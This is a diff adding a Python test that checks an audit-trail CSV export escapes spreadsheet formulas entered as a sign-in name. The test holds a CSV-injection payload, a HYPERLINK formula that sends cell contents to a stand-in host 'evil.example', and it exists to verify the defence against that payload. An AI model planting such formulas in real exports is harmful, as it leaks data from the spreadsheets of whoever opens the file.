@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import threading
 from datetime import date
 from typing import Any
@@ -16,6 +18,7 @@ from ivr.console.work import claim_next
 from ivr.db import Base, Database
 from ivr.models import AudioObject, AuditEvent, Report, ReportSource, ReportStatus, Role, User
 from tests.conftest import SAMPLES
+from tests.console.conftest import csrf_token
 
 
 def audio_url(db: Database, reference: str) -> str:
@@ -138,3 +141,20 @@ def test_many_handlers_claiming_at_once_never_share_a_report(postgres_url: str) 
         thread.join()
     assert errors == []
     assert len(claims) == 60 and len(set(claims)) == 60  # every report claimed once, none twice
+
+
+def test_the_audit_export_shows_formulas_as_text(ingest_app: Any, as_role: Any) -> None:
+    # Given someone who tried to sign in with a spreadsheet formula as their name
+    attacker = ingest_app.test_client()
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    attacker.post(
+        "/console/sign-in",
+        data={"csrf_token": csrf_token(attacker), "name": formula, "password": "x", "code": "1"},
+    )
+    # When an admin exports the audit trail
+    exported = as_role(Role.ADMIN).get("/console/audit?export=csv").get_data(as_text=True)
+    rows = list(csv.reader(io.StringIO(exported)))
+    # Then the name is there, but as text a spreadsheet will not run
+    actors = [row[2] for row in rows[1:]]
+    assert "'" + formula in actors
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows[1:] for cell in row)
